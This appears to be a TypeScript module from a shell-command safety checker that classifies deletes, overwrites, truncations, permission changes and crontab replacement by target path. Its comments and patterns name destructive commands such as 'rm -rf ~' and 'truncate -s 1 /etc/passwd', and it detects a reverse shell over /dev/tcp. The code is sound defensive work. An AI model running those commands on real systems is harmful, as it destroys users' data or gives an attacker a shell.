/*!
 * Filesystem facts: deletes (`rm`, `unlink`, `shred`, `find -delete`), truncation, overwrites
 * (`mv`/`cp` onto important paths, `>` redirects, `tee`, `dd of=`), recursive permission changes.
 * Each target is classified (root, home, system, cwd, scratch, …) so that rules can tell
 * `rm -rf node_modules` from `rm -rf ~`. The parts live beside it: classifying a target (fs-target.ts),
 * find's deletes (find-deletes.ts), chmod modes (chmod-modes.ts), home dotfiles (home-dotfiles.ts).
 */
import type { Word } from '../../parser/model.js';
import type { Analyzer, Fact } from '../facts.js';
import { hasFlag } from '../command-view.js';
import { classifyPath } from '../path-class.js';
import { producers } from '../producers.js';
import { extractFacts } from './archive-extract.js';
import type { Context } from '../context.js';
import { riskyMode, setsUid } from './chmod-modes.js';
import { findFacts, findListed } from './find-deletes.js';
import { copyTarget, HARMLESS_DEVICES, target } from './fs-target.js';
import { homeDotfile, homeDotPath } from './home-dotfiles.js';

/** bash's network pseudo-files: a connection, not a device (secrets.ts judges what is sent there). */
const NETWORK_FILES = /^\/dev\/(tcp|udp)\//;
const SHELL_PROGRAMS = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'python', 'python3', 'perl', 'ruby', 'php', 'node']);

/** A find-exec'd command's `{}` stands for what find found: the find command accounts for it. */
function isFoundPath(w: Word, view: { cmd: { origin: string } }): boolean {
  return view.cmd.origin === 'find-exec' && w.raw.includes('{}');
}

export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
  const facts: Fact[] = [];
  const p = view.program;
  const targets = view.positionals;
  if ((p?.startsWith('mkfs') || p === 'mkswap' || p === 'mke2fs') && formatsImage(targets, ctx))
    facts.push({ id: 'fs.format-image', detail: targets.find((t) => !/^\d+$/.test(t.value))?.value, span: view.cmd.span });
  switch (p) {
    case 'rm':
    case 'unlink':
    case 'trash':
    case 'trash-put': {
      const recursive = !!hasFlag(view, ['-r', '-R', '--recursive']);
      const kind = recursive ? 'fs.delete-recursive' : 'fs.delete';
      const prompts = !!hasFlag(view, ['-i', '--interactive']);
      for (const t of targets) {
        if (isFoundPath(t, view)) continue;
        const found = findListed(t, ctx);
        if (found) facts.push(...found);
        else facts.push(bareStar(target(t, ctx, kind), t, recursive || prompts));
      }
      if (targets.length === 0 && view.cmd.extraArgsUnknown) facts.push({ id: `${kind}.dynamic`, detail: 'arguments from input', span: view.cmd.span });
      if (hasFlag(view, ['--no-preserve-root'])) facts.push({ id: 'fs.no-preserve-root', span: view.cmd.span });
      break;
    }
    case 'shred':
    case 'wipe':
    case 'srm':
      for (const t of targets) facts.push(target(t, ctx, 'fs.shred'));
      break;
    case 'bleachbit':
      // `bleachbit -s FILE` (--shred) overwrites the files it is given
      if (hasFlag(view, ['-s', '--shred'])) for (const t of targets) facts.push(target(t, ctx, 'fs.shred'));
      break;
    case 'truncate': {
      const size = view.flags.find((f) => f.name === '-s' || f.name === '--size')?.value ?? '';
      // Emptying (`-s 0`) or shrinking (`-s -1K`, `-s <1M`, `-s /4K`) destroys data anywhere; an absolute size
      // (`-s 10M disk.img`) makes images in a project, but cuts a file outside it (`-s 1 /etc/passwd`).
      const empties = /^0+[KMGTPEZY]?(iB|B)?$|^[-</]/i.test(size);
      if (!size || /^[+>%]/.test(size)) break;
      const zero = /^0+[KMGTPEZY]?(iB|B)?$/i.test(size);
      for (const t of targets) {
        const fact = target(t, ctx, 'fs.truncate');
        // Emptying one file of the working tree (`truncate -s 0 app.log`) is judged as deleting it (`rm app.log`).
        if (zero && fact.id === 'fs.truncate.inside') facts.push({ ...fact, id: 'fs.delete.inside' });
        else if (empties || !PROJECT_CLASSES.has(fact.id.slice('fs.truncate.'.length))) facts.push(fact);
      }
      break;
    }
    case 'crontab': {
      // `crontab FILE` (or `-` for stdin) replaces the whole crontab, unless what it installs starts from the current one
      // (`crontab -l | { cat; echo '…'; } | crontab -`).
      const listing = view.flags.some((f) => ['-l', '-e', '-r', '-T', '-V'].includes(f.name));
      const keeps = producers(view.cmd).some((c) => c.program === 'crontab' && c.argv.some((w) => w.value === '-l'));
      if (!listing && !keeps && targets.length) facts.push({ id: 'system.crontab-replace', detail: targets[0].value, span: targets[0].span });
      break;
    }
    case 'ddrescue':
      // ddrescue INFILE OUTFILE [MAPFILE]: the output is written over
      if (targets[1]) facts.push(target(targets[1], ctx, 'fs.write'));
      break;
    case 'fallocate':
      // Collapsing, punching or zeroing a range cuts data out of the file; plain fallocate only reserves space.
      if (hasFlag(view, ['-c', '--collapse-range', '-p', '--punch-hole', '-z', '--zero-range']))
        for (const t of targets) facts.push(target(t, ctx, 'fs.truncate'));
      break;
    case 'tar':
    case 'gtar':
    case 'bsdtar':
      if (hasFlag(view, ['--remove-files'])) facts.push(...tarRemoves(view.cmd.argv, ctx));
      facts.push(...extractFacts(view, (w) => target(w, ctx, 'fs.overwrite')));
      break;
    case 'unzip':
    case '7z':
    case '7za':
    case '7zz':
      facts.push(...extractFacts(view, (w) => target(w, ctx, 'fs.overwrite')));
      break;
    case 'find':
      facts.push(...findFacts(view.cmd.argv, ctx));
      break;
    case 'mv':
    case 'cp':
    case 'rsync':
    case 'install':
    case 'ln':
    case 'scp': {
      const remote = p === 'scp' || p === 'rsync';
      const dest = targets[targets.length - 1];
      if (p === 'rsync' && hasFlag(view, ['-n', '--dry-run', '--list-only'])) break;
      if (targets.length >= 2) {
        const over = copyTarget(dest, ctx, 'fs.overwrite', remote);
        // Onto a dotfile of the home directory (`cp x ~/.bashrc`, `ln -sf /dev/null ~/.bash_history`): it replaces the user's config.
        const dotfile = /(^|\/)\.[^/]+$/.test(dest.value) && !/(^|\/)\.(Trash|local\/share\/Trash)(\/|$)/.test(dest.value);
        facts.push(over.id === 'fs.overwrite.home-sub' && dotfile ? { ...over, id: 'fs.write.home-sub' } : over);
        if (p === 'mv') {
          // Into temp space is out of the way for good (`mv ~/Documents /tmp/x`): judged as deleting it there.
          const intoTmp = over.id === 'fs.overwrite.tmp';
          for (const s of targets.slice(0, -1)) {
            const moved = movedAway(target(s, ctx, 'fs.move'), s, ctx);
            const cls = moved.id.slice('fs.move.'.length);
            facts.push(moved);
            if (intoTmp && GONE_IN_TMP.has(cls)) facts.push({ ...moved, id: `fs.delete-recursive.${cls}` });
          }
        }
      }
      if (p === 'rsync' && view.flags.some((f) => RSYNC_DELETES.test(f.name)))
        facts.push(dest ? copyTarget(dest, ctx, 'fs.sync-delete', true) : target(view.cmd.argv[0], ctx, 'fs.sync-delete'));
      break;
    }
    case 'chmod':
    case 'chown':
    case 'chgrp':
    case 'setfacl': {
      const recursive = !!hasFlag(view, ['-R', '--recursive']);
      const byReference = !!hasFlag(view, ['--reference']);
      // `chmod -x FILE`: a mode that starts with a dash reads like an option.
      const dashMode = p === 'chmod' ? view.flags.find((f) => /^-[rwxXst]+$/.test(f.word.value))?.word.value : undefined;
      const mode = dashMode ?? targets[0]?.value ?? '';
      const paths = byReference || p === 'setfacl' || dashMode ? targets : targets.slice(1);
      // A plain chmod that grants nothing dangerous (`chmod 600 ~/.ssh/id_ed25519`, `chmod +x tool`) changes nothing that matters.
      if (!recursive && p === 'chmod' && !byReference && !riskyMode(mode)) break;
      // A program that runs as its owner for whoever starts it (`chmod u+s x`, `chmod 4755 x`), wherever it is.
      if (p === 'chmod' && setsUid(mode)) for (const t of paths) facts.push(target(t, ctx, 'fs.setuid'));
      for (const t of paths) {
        const fact = target(t, ctx, recursive ? 'fs.chmod-recursive' : 'fs.chmod');
        // A tree of the user's own (`chmod -R 755 ~/projects/app`, `chown -R me ~/src`) unless the mode opens it up.
        if (fact.id === 'fs.chmod-recursive.home-sub' && !(p === 'chmod' && riskyMode(targets[0]?.value ?? '')) && !/(^|\/)\.[^/]+\/?$/.test(t.value)) continue;
        facts.push(fact);
      }
      break;
    }
    case 'chattr':
      // Taking attributes away (`chattr -i /etc/passwd`) lifts a protection; adding them (`+i`) adds one.
      if (/^[-=]/.test(targets[0]?.value ?? '') || view.flags.some((f) => /^-[aiAcdDeFjsStTu]+$/.test(f.name) && f.name !== '-R')) {
        for (const t of targets.filter((w) => !/^[-+=]/.test(w.value))) facts.push(target(t, ctx, hasFlag(view, ['-R']) ? 'fs.chmod-recursive' : 'fs.chmod'));
      }
      break;
    case 'tee':
      for (const t of targets) if (!HARMLESS_DEVICES.test(t.value)) facts.push(target(t, ctx, 'fs.write'));
      break;
    case 'dd': {
      // From an endless source without a count, dd writes until the disk is full: whatever the file held is gone.
      const endless = view.cmd.argv.some((w) => /^if=\/dev\/(zero|u?random|full)$/.test(w.value)) && !view.cmd.argv.some((w) => w.value.startsWith('count='));
      for (const w of view.cmd.argv.slice(1)) {
        if (!w.value.startsWith('of=') || HARMLESS_DEVICES.test(w.value.slice(3))) continue;
        const out = { ...w, value: w.value.slice(3) };
        facts.push(target(out, ctx, 'fs.write'));
        if (endless) facts.push(target(out, ctx, 'fs.fill'));
      }
      break;
    }
    case 'git':
      facts.push(...showOverwrites(view.positionals, view.cmd.redirects, ctx));
      break;
    case 'sed':
    case 'perl':
      if (view.flags.some((f) => f.name === '-i' || f.name.startsWith('--in-place'))) {
        for (const t of targets.slice(1)) facts.push(target(t, ctx, 'fs.write'));
      }
      // sed's `w FILE` (and `s///w FILE`) truncates FILE before it writes to it.
      if (p === 'sed' && targets[0] && !targets[0].dynamic) {
        for (const m of targets[0].value.matchAll(/(?:^|[;\n}]|\/[a-zA-Z0-9]*)\s*w\s+(\S+)/g))
          facts.push(target({ ...targets[0], value: m[1] }, ctx, 'fs.write'));
      }
      break;
    case 'curl':
    case 'wget': {
      // The downloaded body is written over the output file (`curl -o ~/.bashrc URL`).
      const out = view.flags.filter(
        (f) =>
          (f.name === '-o' || f.name === '--output' || (p === 'wget' && (f.name === '-O' || f.name === '--output-document'))) &&
          f.value &&
          f.value !== '-' &&
          !HARMLESS_DEVICES.test(f.value),
      );
      for (const f of out) facts.push(target({ ...f.word, value: f.value! }, ctx, 'fs.write'));
      break;
    }
    case 'rimraf':
    case 'del-cli':
    case 'rmrf':
    case 'del':
      // npm's rm -rf (`npx rimraf dist`)
      for (const t of targets) facts.push(target(t, ctx, 'fs.delete-recursive'));
      break;
  }
  // `bash -i >& /dev/tcp/h/4444 0>&1`: a shell whose input or output is a connection serves whoever is at the other end.
  const connection = SHELL_PROGRAMS.has(p ?? '') ? view.cmd.redirects.find((r) => NETWORK_FILES.test(r.target.value)) : undefined;
  if (connection) facts.push({ id: 'system.shell-over-network', detail: connection.target.value, span: view.cmd.span });
  for (const r of view.cmd.redirects) {
    if (!/^(>|>>|>\||&>|&>>|>&)$/.test(r.op) || HARMLESS_DEVICES.test(r.target.value) || NETWORK_FILES.test(r.target.value) || /^\d+$/.test(r.target.value))
      continue;
    // Adding a host key is what ssh-keyscan and the first connection do.
    if (r.op.includes('>>') && /(^|\/)\.ssh\/known_hosts$/.test(r.target.value)) continue;
    const fact = target(r.target, ctx, r.op.includes('>>') ? 'fs.append' : 'fs.write');
    // In the home directory, dotfiles and what dot-directories hold are config and programs (`> ~/.bashrc`,
    // `> ~/.local/bin/git`, `> ~/.config/systemd/user/x.service`); `> ~/notes.txt` is a file like any other.
    if (fact.id === 'fs.write.home-sub' && !homeDotPath(r.target.value, ctx)) continue;
    facts.push(fact);
  }
  return facts;
};

/** `git show REF:path > path` puts the ref's version over the file: an overwrite of it, not a new file. */
function showOverwrites(positionals: Word[], redirects: { op: string; target: Word }[], ctx: Context): Fact[] {
  if (positionals[0]?.value !== 'show') return [];
  const norm = (p: string) => p.replace(/^(\.\/)+/, '');
  const shown = new Set(
    positionals
      .slice(1)
      .map((w) => /^[^:\s]*:(.+)$/.exec(w.value)?.[1])
      .filter((p): p is string => !!p)
      .map(norm),
  );
  return redirects
    .filter((r) => r.op.startsWith('>') && !r.target.dynamic && shown.has(norm(r.target.value)))
    .map((r) => target(r.target, ctx, 'fs.overwrite'));
}

/** Sources that a move into temp space takes away from where they belong. */
const GONE_IN_TMP = new Set(['home', 'home-sub', 'outside', 'system', 'system-file', 'parent']);

/** `mv ~/.zshrc /tmp/x`: a dotfile of the home directory moved away is config the shell and tools lose. */
function movedAway(fact: Fact, word: Word, ctx: Context): Fact {
  if (fact.id !== 'fs.move.home-sub' || word.dynamic) return fact;
  return homeDotfile(word.value, ctx) ? { ...fact, id: 'fs.move-home-config' } : fact;
}

/** Classes of paths inside the project: an absolute-size truncate there makes an image, it does not cut data. */
const PROJECT_CLASSES = new Set(['inside', 'scratch', 'tmp', 'cwd']);

/** A plain `rm *` (or `./*`) empties the working directory: judged like deleting the directory's contents. */
function bareStar(fact: Fact, word: Word, skip: boolean): Fact {
  return !skip && !word.quoted && /^(\.\/)?\*$/.test(word.value) && fact.id === 'fs.delete.wildcard' ? { ...fact, id: 'fs.delete.cwd' } : fact;
}

/**
 * `tar --remove-files -cf out.tar SRC…` moves its sources into the archive; into `/dev/null` or stdout
 * (`-f -`) nothing keeps them, so it deletes them.
 */
function tarRemoves(argv: Word[], ctx: Context): Fact[] {
  let archive: string | null = null;
  const sources: Word[] = [];
  for (let i = 1; i < argv.length; i++) {
    const v = argv[i].value;
    // A short-option bundle (`-czf`, or `czf` as the first word) whose `f` takes the archive name.
    const bundle = !v.startsWith('--') && (v.startsWith('-') || i === 1) && /^-?[A-Za-z]+$/.test(v);
    if (v.startsWith('--file=')) archive = v.slice(7);
    else if (v === '--file' || (bundle && v.includes('f'))) archive = argv[++i]?.value ?? null;
    else if (v === '-C' || v === '--directory') i++;
    else if (!bundle && !v.startsWith('-')) sources.push(argv[i]);
  }
  const gone = archive === null || archive === '-' || HARMLESS_DEVICES.test(archive);
  // Into an archive the sources are gone from where they were: judged as deleting them there (as `zip -m`).
  return sources
    .map((s) => target(s, ctx, gone ? 'fs.delete-recursive' : 'fs.move'))
    .flatMap((f) => (gone ? [f] : [f, { ...f, id: f.id.replace(/^fs\.move\./, 'fs.delete-recursive.') }]));
}

/** rsync options that delete files: `--delete*`, `--del`, `--remove-source-files`. */
const RSYNC_DELETES = /^--(delete|del$|remove-source-files)/;

/** mkfs/mkswap given a regular file (`mkfs.ext4 disk.img`, `mkfs.vfat -C /tmp/fat.img 8192`): an image, not a disk. */
function formatsImage(targets: Word[], ctx: Context): boolean {
  const paths = targets.filter((t) => !/^\d+[KMGT]?$/i.test(t.value));
  // judged where it points (`cd / && mkfs.ext4 dev/sdb` is a device)
  return paths.length > 0 && paths.every((t) => !t.dynamic && /[./]/.test(t.value) && classifyPath(t.value, ctx) !== 'device');
}
